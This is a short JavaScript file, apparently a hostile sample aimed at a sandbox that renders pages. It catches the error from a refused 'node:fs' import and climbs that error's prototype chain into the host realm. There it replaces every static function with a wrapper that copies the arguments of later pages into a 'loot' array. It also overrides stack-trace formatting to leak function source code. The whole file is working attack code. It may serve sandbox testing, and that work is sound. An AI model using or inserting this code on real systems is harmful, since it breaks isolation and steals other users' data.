// Climbs from the error of a refused import to the realm around it, replaces static functions there, and waits for what
// later pages hand them.
const loot = [];
const climb = (object, change) => {
  for (let at = object; at !== null && at !== undefined; at = Object.getPrototypeOf(at)) {
    for (const reached of [at, at.constructor]) if (reached) change(reached);
  }
};
const spoil = (target) => {
  for (const name of Object.getOwnPropertyNames(target)) {
    try {
      const own = target[name];
      if (typeof own !== 'function') continue;
      target[name] = function (...values) {
        loot.push(...values.map(String));
        return Reflect.apply(own, this, values);
      };
    } catch {}
  }
};
const reach = async () => {
  try {
    await import('node:fs');
  } catch (error) {
    climb(error, spoil);
    try {
      error.constructor.prepareStackTrace = (_, sites) => sites.map((site) => String(site.getFunction())).join();
      loot.push(String(new error.constructor().stack));
    } catch {}
  }
};
var hostile = async () => {
  await reach();
  return { markup: loot.join('\n'), title: String(loot.length) };
};
